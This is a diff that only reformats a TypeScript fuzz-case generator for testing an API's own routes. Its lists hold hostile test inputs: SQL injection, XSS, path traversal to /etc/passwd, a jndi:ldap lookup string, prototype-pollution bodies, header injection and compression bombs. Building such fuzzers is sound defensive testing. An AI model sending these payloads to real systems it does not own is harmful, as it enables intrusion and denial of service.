@@ -105,7 +105,11 @@ export function parseRouteTree(tree: string): Array<{ method: string; path: stri
     if (!match[3]) continue;
     let path = stack.join('');
     if (!path.startsWith('/')) path = `/${path}`;
-    for (const method of match[3].split(',').map((m) => m.trim()).filter(Boolean)) found.push({ method, path });
+    for (const method of match[3]
+      .split(',')
+      .map((m) => m.trim())
+      .filter(Boolean))
+      found.push({ method, path });
   }
   return found;
 }
@@ -201,7 +205,9 @@ export function sampleValue(schema: JsonSchema, key: string, fixture: CaseFixtur
     case 'null':
       return null;
     case 'array':
-      return schema.minItems && schema.items ? Array.from({ length: schema.minItems }, () => sampleValue(schema.items!, key, fixture, authenticated, depth + 1)) : [];
+      return schema.minItems && schema.items
+        ? Array.from({ length: schema.minItems }, () => sampleValue(schema.items!, key, fixture, authenticated, depth + 1))
+        : [];
     case 'object':
     default: {
       if (depth > 8) return {};
@@ -260,7 +266,10 @@ export function schemaPaths(schema: JsonSchema, maxDepth = 4): Array<{ path: str
 // Hostile values
 
 /** A hostile JSON value as raw text, so it can hold what JSON.stringify would never write. */
-export interface RawValue { label: string; raw: string }
+export interface RawValue {
+  label: string;
+  raw: string;
+}
 
 const POLLUTION_MARK = 'beckonPolluted';
 export const POLLUTION_KEYS = [POLLUTION_MARK, 'polluted', 'isAdmin'];
@@ -276,25 +285,84 @@ export const HUGE_STRING = 'H'.repeat(100_000);
 export const BIG_STRING = 'B'.repeat(60_000);
 
 export const HOSTILE_STRINGS: readonly string[] = [
-  '', ' ', '0', '-1', 'null', 'undefined', 'true', 'NaN', '[]', '{}', '[object Object]',
-  "' OR 1=1 --", "'; DROP TABLE conversions; --", '" OR ""="', '1) OR (1=1', '\\', "\\'", '%',
-  '\u0000', 'a\u0000b', '%00', '\ud800', '\udfff\ud800', '\u202e\u0645\u0631\u062d\u0628\u0627', '😀👩‍👩‍👧‍👦🏳️‍🌈', 'e\u0301'.repeat(2000),
-  '\uFEFF', '\uFFFF', '\r\nSet-Cookie: owned=1', '../../../../etc/passwd', '..\\..\\windows\\win.ini', 'file:///etc/passwd',
-  '<script>alert(1)</script>', '"><img src=x onerror=alert(1)>', 'javascript:alert(1)', '${jndi:ldap://x.example/a}', '{{7*7}}', '<%= 7*7 %>',
-  'http://[::1', 'https://', '//evil.example', 'mailto:a@b', 'a@b', '@', 'a'.repeat(300) + '@example.com', 'ADA@EXAMPLE.COM ',
-  '__proto__', 'constructor', 'prototype', 'hasOwnProperty', 'toString',
-  'x'.repeat(8193), 'x'.repeat(70_000),
+  '',
+  ' ',
+  '0',
+  '-1',
+  'null',
+  'undefined',
+  'true',
+  'NaN',
+  '[]',
+  '{}',
+  '[object Object]',
+  "' OR 1=1 --",
+  "'; DROP TABLE conversions; --",
+  '" OR ""="',
+  '1) OR (1=1',
+  '\\',
+  "\\'",
+  '%',
+  '\u0000',
+  'a\u0000b',
+  '%00',
+  '\ud800',
+  '\udfff\ud800',
+  '\u202e\u0645\u0631\u062d\u0628\u0627',
+  '😀👩‍👩‍👧‍👦🏳️‍🌈',
+  'e\u0301'.repeat(2000),
+  '\uFEFF',
+  '\uFFFF',
+  '\r\nSet-Cookie: owned=1',
+  '../../../../etc/passwd',
+  '..\\..\\windows\\win.ini',
+  'file:///etc/passwd',
+  '<script>alert(1)</script>',
+  '"><img src=x onerror=alert(1)>',
+  'javascript:alert(1)',
+  '${jndi:ldap://x.example/a}',
+  '{{7*7}}',
+  '<%= 7*7 %>',
+  'http://[::1',
+  'https://',
+  '//evil.example',
+  'mailto:a@b',
+  'a@b',
+  '@',
+  'a'.repeat(300) + '@example.com',
+  'ADA@EXAMPLE.COM ',
+  '__proto__',
+  'constructor',
+  'prototype',
+  'hasOwnProperty',
+  'toString',
+  'x'.repeat(8193),
+  'x'.repeat(70_000),
 ];
 
 export const HOSTILE_RAW: readonly RawValue[] = [
-  { label: 'null', raw: 'null' }, { label: 'true', raw: 'true' }, { label: 'false', raw: 'false' },
-  { label: 'zero', raw: '0' }, { label: 'negative', raw: '-1' }, { label: 'fraction', raw: '1.5' }, { label: 'negative zero', raw: '-0' },
-  { label: 'huge number', raw: '1e308' }, { label: 'overflow to Infinity', raw: '1e309' }, { label: 'overflow to -Infinity', raw: '-1e309' },
-  { label: 'underflow', raw: '1e-400' }, { label: 'unsafe integer', raw: '9007199254740993' }, { label: '30-digit integer', raw: '123456789012345678901234567890' },
-  { label: 'empty array', raw: '[]' }, { label: 'array of null', raw: '[null]' }, { label: 'nested arrays', raw: '[[[]]]' },
-  { label: 'array of strings', raw: '["a","b"]' }, { label: 'array of objects', raw: '[{},{}]' },
+  { label: 'null', raw: 'null' },
+  { label: 'true', raw: 'true' },
+  { label: 'false', raw: 'false' },
+  { label: 'zero', raw: '0' },
+  { label: 'negative', raw: '-1' },
+  { label: 'fraction', raw: '1.5' },
+  { label: 'negative zero', raw: '-0' },
+  { label: 'huge number', raw: '1e308' },
+  { label: 'overflow to Infinity', raw: '1e309' },
+  { label: 'overflow to -Infinity', raw: '-1e309' },
+  { label: 'underflow', raw: '1e-400' },
+  { label: 'unsafe integer', raw: '9007199254740993' },
+  { label: '30-digit integer', raw: '123456789012345678901234567890' },
+  { label: 'empty array', raw: '[]' },
+  { label: 'array of null', raw: '[null]' },
+  { label: 'nested arrays', raw: '[[[]]]' },
+  { label: 'array of strings', raw: '["a","b"]' },
+  { label: 'array of objects', raw: '[{},{}]' },
   { label: '1000-item array', raw: JSON.stringify(Array.from({ length: 1000 }, (_, i) => `i${i}`)) },
-  { label: 'empty object', raw: '{}' }, { label: 'object', raw: '{"a":1}' }, { label: 'mongo operator', raw: '{"$gt":""}' },
+  { label: 'empty object', raw: '{}' },
+  { label: 'object', raw: '{"a":1}' },
+  { label: 'mongo operator', raw: '{"$gt":""}' },
   { label: 'toString/valueOf object', raw: '{"toString":"x","valueOf":1,"toJSON":2}' },
   { label: '__proto__ object', raw: `{"__proto__":{"${POLLUTION_MARK}":"yes","polluted":"yes"}}` },
   { label: 'constructor.prototype object', raw: `{"constructor":{"prototype":{"${POLLUTION_MARK}":"yes"}}}` },
@@ -370,9 +438,10 @@ export function encodeLoose(text: string): string {
   let out = '';
   for (const char of text) {
     const code = char.codePointAt(0)!;
-    out += code >= 0xd800 && code <= 0xdfff
-      ? [0xe0 | (code >> 12), 0x80 | ((code >> 6) & 63), 0x80 | (code & 63)].map((b) => `%${b.toString(16).toUpperCase()}`).join('')
-      : encodeURIComponent(char);
+    out +=
+      code >= 0xd800 && code <= 0xdfff
+        ? [0xe0 | (code >> 12), 0x80 | ((code >> 6) & 63), 0x80 | (code & 63)].map((b) => `%${b.toString(16).toUpperCase()}`).join('')
+        : encodeURIComponent(char);
   }
   return out;
 }
@@ -474,17 +543,34 @@ export function jsonStringPaths(valid: Record<string, unknown>): Array<{ path: s
 export function jsonStringVariants(text: string, rng: Rng): Array<{ label: string; inner: string }> {
   const parsed = JSON.parse(text) as unknown;
   const out: Array<{ label: string; inner: string }> = [
-    { label: 'not JSON', inner: text.slice(0, -1) }, { label: 'empty', inner: '' },
-    ...HOSTILE_RAW.filter((v) => v.raw.length < 30_000 && (CORE_LABELS.has(v.label) || !v.label.startsWith('string #'))).map((v) => ({ label: v.label, inner: v.raw })),
-    { label: '1000 copies of the first entry', inner: Array.isArray(parsed) && parsed.length ? JSON.stringify(Array.from({ length: 1000 }, () => parsed[0])) : '[]' },
+    { label: 'not JSON', inner: text.slice(0, -1) },
+    { label: 'empty', inner: '' },
+    ...HOSTILE_RAW.filter((v) => v.raw.length < 30_000 && (CORE_LABELS.has(v.label) || !v.label.startsWith('string #'))).map((v) => ({
+      label: v.label,
+      inner: v.raw,
+    })),
+    {
+      label: '1000 copies of the first entry',
+      inner: Array.isArray(parsed) && parsed.length ? JSON.stringify(Array.from({ length: 1000 }, () => parsed[0])) : '[]',
+    },
   ];
   if (parsed && typeof parsed === 'object') {
     for (const path of valuePaths(parsed, new Set())) {
       const small = HOSTILE_RAW.filter((v) => v.raw.length < 30_000);
-      for (const { label, raw } of [...small.filter((v) => CORE_LABELS.has(v.label)), ...sampleOf(rng, small.filter((v) => !CORE_LABELS.has(v.label)), 3)]) {
+      for (const { label, raw } of [
+        ...small.filter((v) => CORE_LABELS.has(v.label)),
+        ...sampleOf(
+          rng,
+          small.filter((v) => !CORE_LABELS.has(v.label)),
+          3,
+        ),
+      ]) {
         out.push({ label: `${path.join('.')} = ${label}`, inner: bodyWith(parsed as Record<string, unknown>, path, raw) });
       }
-      out.push({ label: `${path.join('.')} = __proto__ object`, inner: bodyWith(parsed as Record<string, unknown>, path, `{"__proto__":{"${POLLUTION_MARK}":"yes"}}`) });
+      out.push({
+        label: `${path.join('.')} = __proto__ object`,
+        inner: bodyWith(parsed as Record<string, unknown>, path, `{"__proto__":{"${POLLUTION_MARK}":"yes"}}`),
+      });
     }
   }
   return out;
@@ -547,13 +633,19 @@ function headerVariants(hasBody: boolean): Array<{ label: string; headers: Recor
     { label: 'long referer', headers: { referer: `https://x.example/${'r'.repeat(8000)}` } },
     { label: 'null origin', headers: { origin: 'null' } },
     { label: 'garbage origin', headers: { origin: '%%%://\u00ff' } },
-    { label: 'garbage forwarded headers', headers: { 'x-forwarded-for': "1.2.3.4, ' OR 1=1, ::ffff:zz", 'x-forwarded-host': '"><x>', 'x-forwarded-proto': 'gopher' } },
+    {
+      label: 'garbage forwarded headers',
+      headers: { 'x-forwarded-for': "1.2.3.4, ' OR 1=1, ::ffff:zz", 'x-forwarded-host': '"><x>', 'x-forwarded-proto': 'gopher' },
+    },
     { label: 'one 14 KB header', headers: { 'x-filler': 'f'.repeat(14_000) } },
     { label: '100 headers', headers: Object.fromEntries(Array.from({ length: 100 }, (_, i) => [`x-h-${i}`, `v${i}`])) },
     { label: 'garbage range', headers: { range: 'bytes=abc-def, -0, 999999999999-' } },
     { label: 'unsatisfiable range', headers: { range: 'bytes=99999999-' } },
     { label: 'many ranges', headers: { range: `bytes=${Array.from({ length: 200 }, (_, i) => `${i}-${i}`).join(',')}` } },
-    { label: 'garbage conditional headers', headers: { 'if-none-match': '"' + 'e'.repeat(500), 'if-modified-since': 'yesterday-ish', 'if-match': '*,,,', 'if-unmodified-since': '0' } },
+    {
+      label: 'garbage conditional headers',
+      headers: { 'if-none-match': '"' + 'e'.repeat(500), 'if-modified-since': 'yesterday-ish', 'if-match': '*,,,', 'if-unmodified-since': '0' },
+    },
     { label: 'garbage accept', headers: { accept: 'application/xml;q=x, */*;q=-1' } },
     { label: 'garbage authorization', headers: { authorization: `Bearer ${'t'.repeat(3000)}` } },
     { label: 'country header', headers: { 'cf-ipcountry': "' OR 1=1", 'x-country': '\u00ff' } },
@@ -576,24 +668,73 @@ function headerVariants(hasBody: boolean): Array<{ label: string; headers: Recor
 
 /** Content types for a valid JSON body; which of them a route accepts is the route's business. */
 const CONTENT_TYPES: readonly string[] = [
-  'application/json', 'text/plain', 'text/plain; charset=utf-8', 'text/plain; charset=utf-16le', 'application/json; charset=utf-16',
-  'application/json; charset="', 'application/json;;;', 'APPLICATION/JSON', 'Application/Json ; Charset=UTF-8', 'application/json, text/plain',
-  'application/x-www-form-urlencoded', 'multipart/form-data', 'multipart/form-data; boundary=----x', 'application/octet-stream',
-  'application/xml', 'text/html', 'image/png', '*/*', 'garbage', ';', 'application/', 'text/plain; ' + 'p=1; '.repeat(1000),
-  'application/vnd.api+json', 'application/problem+json', 'application/x-ndjson',
+  'application/json',
+  'text/plain',
+  'text/plain; charset=utf-8',
+  'text/plain; charset=utf-16le',
+  'application/json; charset=utf-16',
+  'application/json; charset="',
+  'application/json;;;',
+  'APPLICATION/JSON',
+  'Application/Json ; Charset=UTF-8',
+  'application/json, text/plain',
+  'application/x-www-form-urlencoded',
+  'multipart/form-data',
+  'multipart/form-data; boundary=----x',
+  'application/octet-stream',
+  'application/xml',
+  'text/html',
+  'image/png',
+  '*/*',
+  'garbage',
+  ';',
+  'application/',
+  'text/plain; ' + 'p=1; '.repeat(1000),
+  'application/vnd.api+json',
+  'application/problem+json',
+  'application/x-ndjson',
 ];
 
 const INVALID_JSON: readonly string[] = [
-  '{', '{"a":', '[', '}{', '{}{}', '{"a":1,}', "{'a':1}", 'nul', 'NaN', 'undefined', 'Infinity', '{"a":01}', '{"a":"\\x"}',
-  '{"a":"\\u12"}', '{"a" 1}', '{a:1}', '"unterminated', '\u0000', '{}garbage', '\uFEFF{}', '/* c */{}', '{"a":1}//', '[1,2', '{"__proto__":',
-  'a'.repeat(1000), '{"a":' + '['.repeat(5000),
+  '{',
+  '{"a":',
+  '[',
+  '}{',
+  '{}{}',
+  '{"a":1,}',
+  "{'a':1}",
+  'nul',
+  'NaN',
+  'undefined',
+  'Infinity',
+  '{"a":01}',
+  '{"a":"\\x"}',
+  '{"a":"\\u12"}',
+  '{"a" 1}',
+  '{a:1}',
+  '"unterminated',
+  '\u0000',
+  '{}garbage',
+  '\uFEFF{}',
+  '/* c */{}',
+  '{"a":1}//',
+  '[1,2',
+  '{"__proto__":',
+  'a'.repeat(1000),
+  '{"a":' + '['.repeat(5000),
 ];
 
 /** Whole bodies that are valid JSON but not what any route takes. */
 const WRONG_JSON_BODIES: readonly RawValue[] = [
-  { label: 'null', raw: 'null' }, { label: 'array', raw: '[]' }, { label: 'array of object', raw: '[{}]' }, { label: 'string', raw: '"x"' },
-  { label: 'number', raw: '0' }, { label: 'true', raw: 'true' }, { label: 'empty object', raw: '{}' },
-  { label: '10k-deep array', raw: deepArray(10_000) }, { label: '10k-deep object', raw: deepObject(10_000) },
+  { label: 'null', raw: 'null' },
+  { label: 'array', raw: '[]' },
+  { label: 'array of object', raw: '[{}]' },
+  { label: 'string', raw: '"x"' },
+  { label: 'number', raw: '0' },
+  { label: 'true', raw: 'true' },
+  { label: 'empty object', raw: '{}' },
+  { label: '10k-deep array', raw: deepArray(10_000) },
+  { label: '10k-deep object', raw: deepObject(10_000) },
   { label: '3000-key object', raw: manyKeys(3000) },
   { label: '__proto__ only', raw: `{"__proto__":{"${POLLUTION_MARK}":"yes"}}` },
   { label: 'constructor.prototype only', raw: `{"constructor":{"prototype":{"${POLLUTION_MARK}":"yes"}}}` },
@@ -617,13 +758,20 @@ function formPayloads(valid: Record<string, unknown> | undefined): Array<{ label
   ];
 }
 
-const MULTIPART_BODY = '------x\r\nContent-Disposition: form-data; name="a"\r\n\r\n1\r\n------x\r\nContent-Disposition: form-data; name="file"; filename="../../x.sh"\r\nContent-Type: application/x-sh\r\n\r\n#!/bin/sh\r\n------x--\r\n';
+const MULTIPART_BODY =
+  '------x\r\nContent-Disposition: form-data; name="a"\r\n\r\n1\r\n------x\r\nContent-Disposition: form-data; name="file"; filename="../../x.sh"\r\nContent-Type: application/x-sh\r\n\r\n#!/bin/sh\r\n------x--\r\n';
 
 /** Bytes that are not valid UTF-8, alone and inside JSON strings. */
 function invalidUtf8Payloads(valid: Record<string, unknown> | undefined, stringPath: string[] | undefined): Array<{ label: string; payload: Buffer }> {
   const sequences: Array<[string, number[]]> = [
-    ['0xff 0xfe', [0xff, 0xfe]], ['lone continuation', [0x80]], ['bad continuation', [0xc3, 0x28]], ['overlong slash', [0xc0, 0xaf]],
-    ['UTF-16 surrogate', [0xed, 0xa0, 0x80]], ['truncated 3-byte', [0xe2, 0x82]], ['beyond U+10FFFF', [0xf4, 0x90, 0x80, 0x80]], ['NUL', [0x00]],
+    ['0xff 0xfe', [0xff, 0xfe]],
+    ['lone continuation', [0x80]],
+    ['bad continuation', [0xc3, 0x28]],
+    ['overlong slash', [0xc0, 0xaf]],
+    ['UTF-16 surrogate', [0xed, 0xa0, 0x80]],
+    ['truncated 3-byte', [0xe2, 0x82]],
+    ['beyond U+10FFFF', [0xf4, 0x90, 0x80, 0x80]],
+    ['NUL', [0x00]],
   ];
   const out: Array<{ label: string; payload: Buffer }> = [];
   for (const [label, bytes] of sequences) {
@@ -654,18 +802,104 @@ export interface GenerateOptions {
 export type Tier = 'deep' | 'light' | 'minimal' | 'logged-in';
 
 interface Budget {
-  pathValues: number; urlOddities: number; queryVariants: number; garbageQueries: number; headers: number;
-  contentTypes: number; forms: number; invalidJson: number; wholeBodies: number; oversized: number; utf8: number; compression: number;
+  pathValues: number;
+  urlOddities: number;
+  queryVariants: number;
+  garbageQueries: number;
+  headers: number;
+  contentTypes: number;
+  forms: number;
+  invalidJson: number;
+  wholeBodies: number;
+  oversized: number;
+  utf8: number;
+  compression: number;
   /** hostile values drawn per body property, on top of the core ones and the property's own limits */
-  perProperty: number; formStrings: number; proto: number; mixed: number; methods: number;
+  perProperty: number;
+  formStrings: number;
+  proto: number;
+  mixed: number;
+  methods: number;
 }
 
 const ALL = Number.POSITIVE_INFINITY;
 const BUDGETS: Record<Tier, Budget> = {
-  deep: { pathValues: ALL, urlOddities: ALL, queryVariants: ALL, garbageQueries: ALL, headers: 24, contentTypes: ALL, forms: ALL, invalidJson: 6, wholeBodies: ALL, oversized: ALL, utf8: 6, compression: ALL, perProperty: 3, formStrings: 3, proto: ALL, mixed: 8, methods: 5 },
-  light: { pathValues: 10, urlOddities: 3, queryVariants: 4, garbageQueries: 5, headers: 8, contentTypes: 5, forms: 3, invalidJson: 3, wholeBodies: 4, oversized: 3, utf8: 3, compression: 1, perProperty: 2, formStrings: 1, proto: 2, mixed: 4, methods: 3 },
-  minimal: { pathValues: 3, urlOddities: 2, queryVariants: 1, garbageQueries: 2, headers: 3, contentTypes: 2, forms: 1, invalidJson: 1, wholeBodies: 2, oversized: 1, utf8: 1, compression: 1, perProperty: 0, formStrings: 0, proto: 1, mixed: 2, methods: 2 },
-  'logged-in': { pathValues: 5, urlOddities: 0, queryVariants: 4, garbageQueries: 2, headers: 3, contentTypes: 3, forms: 2, invalidJson: 2, wholeBodies: 4, oversized: 4, utf8: 2, compression: 1, perProperty: 3, formStrings: 2, proto: ALL, mixed: 5, methods: 0 },
+  deep: {
+    pathValues: ALL,
+    urlOddities: ALL,
+    queryVariants: ALL,
+    garbageQueries: ALL,
+    headers: 24,
+    contentTypes: ALL,
+    forms: ALL,
+    invalidJson: 6,
+    wholeBodies: ALL,
+    oversized: ALL,
+    utf8: 6,
+    compression: ALL,
+    perProperty: 3,
+    formStrings: 3,
+    proto: ALL,
+    mixed: 8,
+    methods: 5,
+  },
+  light: {
+    pathValues: 10,
+    urlOddities: 3,
+    queryVariants: 4,
+    garbageQueries: 5,
+    headers: 8,
+    contentTypes: 5,
+    forms: 3,
+    invalidJson: 3,
+    wholeBodies: 4,
+    oversized: 3,
+    utf8: 3,
+    compression: 1,
+    perProperty: 2,
+    formStrings: 1,
+    proto: 2,
+    mixed: 4,
+    methods: 3,
+  },
+  minimal: {
+    pathValues: 3,
+    urlOddities: 2,
+    queryVariants: 1,
+    garbageQueries: 2,
+    headers: 3,
+    contentTypes: 2,
+    forms: 1,
+    invalidJson: 1,
+    wholeBodies: 2,
+    oversized: 1,
+    utf8: 1,
+    compression: 1,
+    perProperty: 0,
+    formStrings: 0,
+    proto: 1,
+    mixed: 2,
+    methods: 2,
+  },
+  'logged-in': {
+    pathValues: 5,
+    urlOddities: 0,
+    queryVariants: 4,
+    garbageQueries: 2,
+    headers: 3,
+    contentTypes: 3,
+    forms: 2,
+    invalidJson: 2,
+    wholeBodies: 4,
+    oversized: 4,
+    utf8: 2,
+    compression: 1,
+    perProperty: 3,
+    formStrings: 2,
+    proto: ALL,
+    mixed: 5,
+    methods: 0,
+  },
 };
 
 /** A crude schema for a body known only by example (routes the OpenAPI document hides). */
@@ -737,14 +971,17 @@ export function generateCases(routes: RouteSpec[], fixture: CaseFixture, options
       rng = seededRng(options.seed ^ hashText(`${route.method} ${route.path} ${authenticated}`));
       const budget = BUDGETS[tier];
       const realUrl = (overrides: Record<string, string> = {}) =>
-        route.path.split('/').map((segment) => {
-          if (segment.startsWith(':')) return overrides[segment.slice(1)] ?? encodeURIComponent(fixture.param(route, segment.slice(1), authenticated));
-          if (segment === '*') return overrides['*'] ?? fixture.param(route, '*', authenticated);
-          return segment;
-        }).join('/');
-      const validQuery = fixture.validQuery?.(route) ?? Object.fromEntries(
-        route.requiredQuery.map((name) => [name, String(sampleValue(route.query[name] ?? {}, name, fixture, authenticated))]),
-      );
+        route.path
+          .split('/')
+          .map((segment) => {
+            if (segment.startsWith(':')) return overrides[segment.slice(1)] ?? encodeURIComponent(fixture.param(route, segment.slice(1), authenticated));
+            if (segment === '*') return overrides['*'] ?? fixture.param(route, '*', authenticated);
+            return segment;
+          })
+          .join('/');
+      const validQuery =
+        fixture.validQuery?.(route) ??
+        Object.fromEntries(route.requiredQuery.map((name) => [name, String(sampleValue(route.query[name] ?? {}, name, fixture, authenticated))]));
       const queryString = new URLSearchParams(validQuery).toString();
       const baseUrl = (overrides: Record<string, string> = {}) => `${realUrl(overrides)}${queryString ? `?${queryString}` : ''}`;
       const takesBody = BODY_METHODS.has(route.method);
@@ -768,10 +1005,17 @@ export function generateCases(routes: RouteSpec[], fixture: CaseFixture, options
       // 3. URL oddities.
       const url = realUrl();
       const oddities: Array<[string, string]> = [
-        ['trailing slash', `${url}/`], ['double slash', `/${url}`], ['dot segment', url.replace(/^\//, '/./')],
-        ['dot-dot segment', `/x/..${url}`], ['encoded slashes', url.replace(/\//g, '%2F')], ['upper case', url.toUpperCase()],
-        ['matrix parameter', `${url};jsessionid=x`], ['empty query', `${url}?`], ['fragment', `${url}#frag`],
-        ['8000-char query', `${url}?${'q'.repeat(8000)}`], ['backslashes', url.replace(/\//g, '\\')],
+        ['trailing slash', `${url}/`],
+        ['double slash', `/${url}`],
+        ['dot segment', url.replace(/^\//, '/./')],
+        ['dot-dot segment', `/x/..${url}`],
+        ['encoded slashes', url.replace(/\//g, '%2F')],
+        ['upper case', url.toUpperCase()],
+        ['matrix parameter', `${url};jsessionid=x`],
+        ['empty query', `${url}?`],
+        ['fragment', `${url}#frag`],
+        ['8000-char query', `${url}?${'q'.repeat(8000)}`],
+        ['backslashes', url.replace(/\//g, '\\')],
       ];
       for (const [label, odd] of some(oddities, budget.urlOddities)) send(`url ${label}`, odd, jsonHeaders(), validText);
 
@@ -792,7 +1036,14 @@ export function generateCases(routes: RouteSpec[], fixture: CaseFixture, options
             // not JSON after all
           }
         }
-        for (const { label, pairs } of [...core, ...some(variants.filter((v) => !CORE_QUERY_LABELS.has(v.label)), budget.queryVariants), ...json]) {
+        for (const { label, pairs } of [
+          ...core,
+          ...some(
+            variants.filter((v) => !CORE_QUERY_LABELS.has(v.label)),
+            budget.queryVariants,
+          ),
+          ...json,
+        ]) {
           const query = [rest, pairs].filter(Boolean).join('&');
           send(`query ${name} ${label}`, `${url}${query ? `?${query}` : ''}`, jsonHeaders(), validText);
         }
@@ -819,15 +1070,26 @@ export function generateCases(routes: RouteSpec[], fixture: CaseFixture, options
         send('multipart with file', baseUrl(), { 'content-type': 'multipart/form-data; boundary=----x' }, MULTIPART_BODY);
         if (tier === 'deep') {
           send('multipart without boundary', baseUrl(), { 'content-type': 'multipart/form-data' }, MULTIPART_BODY);
-          send('octet-stream bytes', baseUrl(), { 'content-type': 'application/octet-stream' }, Buffer.from(Array.from({ length: 512 }, () => Math.floor(rng() * 256))));
+          send(
+            'octet-stream bytes',
+            baseUrl(),
+            { 'content-type': 'application/octet-stream' },
+            Buffer.from(Array.from({ length: 512 }, () => Math.floor(rng() * 256))),
+          );
         }
 
         // 7. Empty bodies and invalid JSON.
         const empties: Array<[string, string, string]> = [];
         for (const contentType of ['application/json', 'text/plain', 'application/x-www-form-urlencoded', '']) {
-          for (const [label, payload] of [['empty', ''], ['whitespace', ' \n\t '], ['one NUL', '\u0000']] as const) empties.push([`${label} body as ${contentType || 'no type'}`, contentType, payload]);
+          for (const [label, payload] of [
+            ['empty', ''],
+            ['whitespace', ' \n\t '],
+            ['one NUL', '\u0000'],
+          ] as const)
+            empties.push([`${label} body as ${contentType || 'no type'}`, contentType, payload]);
         }
-        for (const [label, contentType, payload] of tier === 'deep' ? empties : some(empties, 3)) send(label, baseUrl(), contentType ? { 'content-type': contentType } : {}, payload);
+        for (const [label, contentType, payload] of tier === 'deep' ? empties : some(empties, 3))
+          send(label, baseUrl(), contentType ? { 'content-type': contentType } : {}, payload);
         for (const text of some(INVALID_JSON, budget.invalidJson)) {
           for (const contentType of ['application/json', 'text/plain']) {
             send(`invalid JSON ${JSON.stringify(text.slice(0, 30))} as ${contentType}`, baseUrl(), { 'content-type': contentType }, text);
@@ -846,11 +1108,19 @@ export function generateCases(routes: RouteSpec[], fixture: CaseFixture, options
           return `${head}${'p'.repeat(Math.max(0, size - head.length - 2))}"}`;
         };
         const oversized: Array<[string, number, string]> = [];
-        for (const [label, size] of [['limit + 1', options.bodyLimit + 1], ['8 MiB', 8 << 20], ['at the limit', options.bodyLimit], ['1 MiB', 1 << 20]] as const) {
+        for (const [label, size] of [
+          ['limit + 1', options.bodyLimit + 1],
+          ['8 MiB', 8 << 20],
+          ['at the limit', options.bodyLimit],
+          ['1 MiB', 1 << 20],
+        ] as const) {
           for (const contentType of ['application/json', 'text/plain', 'application/x-www-form-urlencoded']) oversized.push([label, size, contentType]);
         }
         // The first ones (limit + 1, 8 MiB) come first in every budget.
-        for (const [label, size, contentType] of oversized.slice(0, Math.min(oversized.length, budget.oversized === ALL ? oversized.length : budget.oversized))) {
+        for (const [label, size, contentType] of oversized.slice(
+          0,
+          Math.min(oversized.length, budget.oversized === ALL ? oversized.length : budget.oversized),
+        )) {
           const payload = pad(size, contentType);
           send(`oversized ${label} as ${contentType}`, baseUrl(), { 'content-type': contentType }, payload);
         }
@@ -867,10 +1137,14 @@ export function generateCases(routes: RouteSpec[], fixture: CaseFixture, options
 
         // 10. Compressed bodies: valid, garbage, and bombs that inflate far past the limit (bombs first).
         const compressed: Array<[string, string, Buffer]> = [
-          ['gzip bomb (20 MiB of spaces)', 'gzip', bombs().gzip], ['br bomb (20 MiB of spaces)', 'br', bombs().br],
-          ['gzip garbage', 'gzip', Buffer.from('not gzip at all')], ['gzip of the valid body', 'gzip', gzipSync(bodyText)],
-          ['deflate of the valid body', 'deflate', deflateSync(bodyText)], ['br of the valid body', 'br', brotliCompressSync(bodyText)],
-          ['truncated gzip', 'gzip', gzipSync(bodyText).subarray(0, 12)], ['br garbage', 'br', Buffer.from([0xff, 0xff, 0xff, 0xff])],
+          ['gzip bomb (20 MiB of spaces)', 'gzip', bombs().gzip],
+          ['br bomb (20 MiB of spaces)', 'br', bombs().br],
+          ['gzip garbage', 'gzip', Buffer.from('not gzip at all')],
+          ['gzip of the valid body', 'gzip', gzipSync(bodyText)],
+          ['deflate of the valid body', 'deflate', deflateSync(bodyText)],
+          ['br of the valid body', 'br', brotliCompressSync(bodyText)],
+          ['truncated gzip', 'gzip', gzipSync(bodyText).subarray(0, 12)],
+          ['br garbage', 'br', Buffer.from([0xff, 0xff, 0xff, 0xff])],
           ['gzip of invalid JSON', 'gzip', gzipSync('{"a":')],
         ];
         for (const [label, encoding, payload] of compressed.slice(0, Math.min(compressed.length, budget.compression))) {
@@ -886,7 +1160,10 @@ export function generateCases(routes: RouteSpec[], fixture: CaseFixture, options
             const values = [
               ...boundaryValues(schema),
               ...HOSTILE_RAW.filter((v) => CORE_LABELS.has(v.label)),
-              ...some(HOSTILE_RAW.filter((v) => !CORE_LABELS.has(v.label)), budget.perProperty),
+              ...some(
+                HOSTILE_RAW.filter((v) => !CORE_LABELS.has(v.label)),
+                budget.perProperty,
+              ),
             ];
             for (const { label, raw } of values) {
               send(`body ${where} = ${label}`, baseUrl(), { 'content-type': pick(rng, ['application/json', 'text/plain']) }, bodyWith(valid, path, raw));
@@ -909,7 +1186,12 @@ export function generateCases(routes: RouteSpec[], fixture: CaseFixture, options
           if (authenticated || !fixture.authenticated(route)) {
             for (const path of valuePaths(valid, new Set(paths.map((p) => p.path.join('.'))))) {
               for (const { label, raw } of HOSTILE_RAW.filter((v) => CORE_LABELS.has(v.label))) {
-                send(`body value ${path.join('.')} = ${label}`, baseUrl(), { 'content-type': pick(rng, ['application/json', 'text/plain']) }, bodyWith(valid, path, raw));
+                send(
+                  `body value ${path.join('.')} = ${label}`,
+                  baseUrl(),
+                  { 'content-type': pick(rng, ['application/json', 'text/plain']) },
+                  bodyWith(valid, path, raw),
+                );
               }
             }
           }
@@ -938,7 +1220,12 @@ export function generateCases(routes: RouteSpec[], fixture: CaseFixture, options
           }
           // The same property twice in the JSON text, the second of the wrong type.
           for (const key of some(Object.keys(valid), budget.formStrings)) {
-            send(`duplicate ${key} of the wrong type`, baseUrl(), { 'content-type': 'text/plain' }, `${JSON.stringify(valid).slice(0, -1)},${JSON.stringify(key)}:{"a":[1]}}`);
+            send(
+              `duplicate ${key} of the wrong type`,
+              baseUrl(),
+              { 'content-type': 'text/plain' },
+              `${JSON.stringify(valid).slice(0, -1)},${JSON.stringify(key)}:{"a":[1]}}`,
+            );
           }
         }
       }
@@ -961,7 +1248,15 @@ export function generateCases(routes: RouteSpec[], fixture: CaseFixture, options
           }
           if (rng() < 0.15) text = text.slice(0, Math.floor(rng() * text.length));
           payload = text;
-          headers['content-type'] = pick(rng, ['application/json', 'application/json', 'text/plain', 'text/plain', 'application/x-www-form-urlencoded', 'application/octet-stream', 'text/csv']);
+          headers['content-type'] = pick(rng, [
+            'application/json',
+            'application/json',
+            'text/plain',
+            'text/plain',
+            'application/x-www-form-urlencoded',
+            'application/octet-stream',
+            'text/csv',
+          ]);
         }
         if (rng() < 0.3) Object.assign(headers, pick(rng, headerVariants(false)).headers);
         const query = rng() < 0.3 ? pick(rng, GARBAGE_QUERIES).query : '';
@@ -979,14 +1274,32 @@ export function generateCases(routes: RouteSpec[], fixture: CaseFixture, options
